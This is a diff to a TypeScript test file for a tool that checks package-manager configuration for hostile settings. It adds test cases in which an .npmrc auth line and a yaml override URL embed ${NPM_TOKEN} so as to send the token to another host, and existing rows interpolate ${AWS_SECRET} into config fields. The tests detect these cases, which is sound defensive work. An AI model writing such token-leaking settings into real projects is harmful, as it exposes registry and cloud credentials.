@@ -141,6 +141,20 @@ function hostileTable(manager: TestManager): void {
     ['a server that resolves', yaml('pnprServer: http://127.0.0.1:9'), '', 'QM_PROJECT_HOOKS', /"pnprServer".*secrets/],
     ['a variable', yaml('userAgent: ${AWS_SECRET}'), '', 'QM_MANAGER_UNSUPPORTED', /"userAgent"/],
     ['a variable as a tag', yaml('tag: ${AWS_SECRET}'), '', 'QM_PROJECT_HOOKS', /"tag".*secrets/],
+    [
+      'a token for its own host',
+      {},
+      '//127.0.0.1:9/:_authToken=${NPM_TOKEN}\n',
+      'QM_PROJECT_HOOKS',
+      /send NPM_TOKEN to/,
+    ],
+    [
+      'a token in an address',
+      yaml('overrides:\n  x: http://127.0.0.1:9/${NPM_TOKEN}.tgz'),
+      '',
+      'QM_PROJECT_HOOKS',
+      /"overrides".*send NPM_TOKEN to 127/,
+    ],
     ['a lockfile each', yaml('sharedWorkspaceLockfile: false'), '', 'QM_MANAGER_UNSUPPORTED', /"sharedWork.*follow/],
     ['a lockfile a branch', yaml('gitBranchLockfile: true'), '', 'QM_MANAGER_UNSUPPORTED', /"gitBranch/],
     ['no lockfile', yaml('lockfile: false'), '', 'QM_MANAGER_UNSUPPORTED', /"lockfile"/],
@@ -206,7 +220,7 @@ function hostileTable(manager: TestManager): void {
     ['scripts on', yaml('ignoreScripts: false\ndangerouslyAllowAllBuilds: true'), 'ignore-scripts=false\n'],
     ['a script that fails where it is left out', yaml('strictDepBuilds: true'), ''],
     ['a store and a patch of its own', { ...yaml(patched), 'patches/x.patch': patch }, 'store-dir=.store\n'],
-    ['a token for a registry, by its usual variable', {}, '//127.0.0.1:9/:_authToken=${NPM_TOKEN}\n'],
+    ['a token for the public registry, by its usual variable', {}, '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n'],
   ];
   for (const [what, files, npmrc] of harmless) {
     it(`installs what it should, given ${what}`, async () => {
